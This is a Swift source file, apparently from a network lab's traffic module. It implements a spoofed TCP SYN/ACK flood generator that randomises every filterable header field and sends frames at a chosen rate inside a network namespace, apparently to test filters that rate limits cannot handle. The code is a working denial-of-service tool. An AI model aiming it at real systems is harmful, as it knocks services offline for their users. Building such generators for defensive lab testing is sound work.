import Foundation
import Lab
import Packets
import Traffic

/// A TCP flood in which every header a filter could key on is random per packet: source
/// address, source port, TTL, IP ID, DF, window, sequence numbers and TCP options. What is left
/// is what makes it an attack on one service: protocol, flags, destination address and port.
/// The case a rate limit cannot separate from real clients (issue 14 §1).
public struct TCPFlood: Sendable {
    public enum Kind: String, Sendable { case syn, ack }

    public var kind: Kind
    public var destination: UInt32
    public var destinationPort: UInt16
    public var sourceMAC: MACAddress
    public var destinationMAC: MACAddress
    /// Sources are drawn from this block (network, prefix length), never equal to `avoid`.
    public var sourceNetwork: UInt32 = 0x6400_0000   // 100.0.0.0/8, far from the lab's 10.77.0.0/24
    public var sourceLength = 8

    public init(kind: Kind, destination: UInt32, destinationPort: UInt16, sourceMAC: MACAddress, destinationMAC: MACAddress) {
        self.kind = kind
        self.destination = destination
        self.destinationPort = destinationPort
        self.sourceMAC = sourceMAC
        self.destinationMAC = destinationMAC
    }

    /// Writes one random frame at `p` (≥ 94 bytes), returns its length.
    public func write(_ p: UnsafeMutableRawPointer, rng: inout SplitMix64) -> Int {
        let r1 = rng.next(), r2 = rng.next(), r3 = rng.next()
        // Options: 0…5 four-byte words of well-formed options, as real stacks send (MSS,
        // SACK-permitted, timestamps, window scale), so the options' length varies too.
        let optWords = Int(r3 % 6)
        let tcpLen = 20 + 4 * optWords
        let ipLen = 20 + tcpLen
        let b = p.assumingMemoryBound(to: UInt8.self)
        put48(b, destinationMAC.value)
        put48(b + 6, sourceMAC.value)
        b[12] = 0x08; b[13] = 0x00
        let ip = b + 14
        let hostBits = UInt32(truncatingIfNeeded: r1) & (sourceLength >= 32 ? 0 : UInt32.max >> UInt32(sourceLength))
        let src = sourceNetwork | hostBits
        ip[0] = 0x45; ip[1] = 0
        put16(ip + 2, UInt16(ipLen))
        put16(ip + 4, UInt16(truncatingIfNeeded: r1 >> 32))            // IP ID
        ip[6] = (r1 >> 48) & 1 == 1 ? 0x40 : 0x00; ip[7] = 0           // DF
        ip[8] = UInt8(32 + (r1 >> 49) % 224)                           // TTL 32…255
        ip[9] = 6
        put16(ip + 10, 0)
        put32(ip + 12, src)
        put32(ip + 16, destination)
        put16(ip + 10, Checksum.internet(UnsafeRawBufferPointer(start: ip, count: 20)))
        let t = ip + 20
        put16(t, UInt16(1024 + (r2 & 0xFFFF) % 64512))                 // source port
        put16(t + 2, destinationPort)
        put32(t + 4, UInt32(truncatingIfNeeded: r2 >> 16))             // sequence
        put32(t + 8, kind == .ack ? UInt32(truncatingIfNeeded: r3 >> 8) : 0)
        t[12] = UInt8(tcpLen / 4) << 4
        t[13] = kind == .syn ? 0x02 : 0x10
        put16(t + 14, UInt16(truncatingIfNeeded: r2 >> 48))            // window
        put16(t + 16, 0); put16(t + 18, 0)
        var o = t + 20
        for w in 0..<optWords {
            switch w {
            case 0: o[0] = 2; o[1] = 4; put16(o + 2, UInt16(536 + (r3 >> 16) % 1000))   // MSS
            case 1: o[0] = 1; o[1] = 3; o[2] = 3; o[3] = UInt8((r3 >> 32) % 15)          // NOP, window scale
            case 2: o[0] = 1; o[1] = 1; o[2] = 4; o[3] = 2                               // NOP NOP SACK-permitted
            default: o[0] = 1; o[1] = 1; o[2] = 1; o[3] = 1                              // NOPs (timestamps' padding)
            }
            o += 4
        }
        let pseudo = Checksum.pseudoHeaderV4(source: src, destination: destination, proto: 6, length: tcpLen)
        let sum = Checksum.sum(UnsafeRawBufferPointer(start: t, count: tcpLen), initial: pseudo)
        put16(t + 16, Checksum.finish(sum))
        return 14 + ipLen
    }

    private func put16(_ p: UnsafeMutablePointer<UInt8>, _ v: UInt16) { p[0] = UInt8(v >> 8); p[1] = UInt8(v & 0xFF) }
    private func put32(_ p: UnsafeMutablePointer<UInt8>, _ v: UInt32) { put16(p, UInt16(v >> 16)); put16(p + 2, UInt16(v & 0xFFFF)) }
    private func put48(_ p: UnsafeMutablePointer<UInt8>, _ v: UInt64) { for i in 0..<6 { p[i] = UInt8((v >> UInt64(8 * (5 - i))) & 0xFF) } }

    /// Sends the flood on `interface` (inside `namespace`) at `pps` for `seconds` from the calling
    /// thread (which it moves into the namespace for good: give it a thread of its own).
    /// Returns the frames handed to the kernel.
    public func send(interface: String, namespace: String, pps: Double, seconds: Double, seed: UInt64 = 1,
                     stop: @Sendable () -> Bool = { false }) throws -> UInt64 {
        try NetworkNamespace(namespace).enterSender()
        let info = try InterfaceInfo.lookup(interface, namespace: namespace)
        let sender = try SendmmsgSender(ifindex: info.index, batch: 64)
        defer { sender.close() }
        var rng = SplitMix64(seed: seed)
        let start = DispatchTime.now().uptimeNanoseconds
        let end = start + UInt64(seconds * 1e9)
        var sent: UInt64 = 0
        while !stop() {
            let now = DispatchTime.now().uptimeNanoseconds
            if now >= end { break }
            let due = UInt64(Double(now - start) / 1e9 * pps)
            if sent >= due { usleep(200); continue }
            let r = sender.transmit(count: Int(min(due - sent, 64))) { buf in
                WrittenFrame(length: write(buf, rng: &rng), meta: .init())
            }
            sent += UInt64(r.sent)
            if r.fatal != nil { break }
        }
        return sent
    }
}
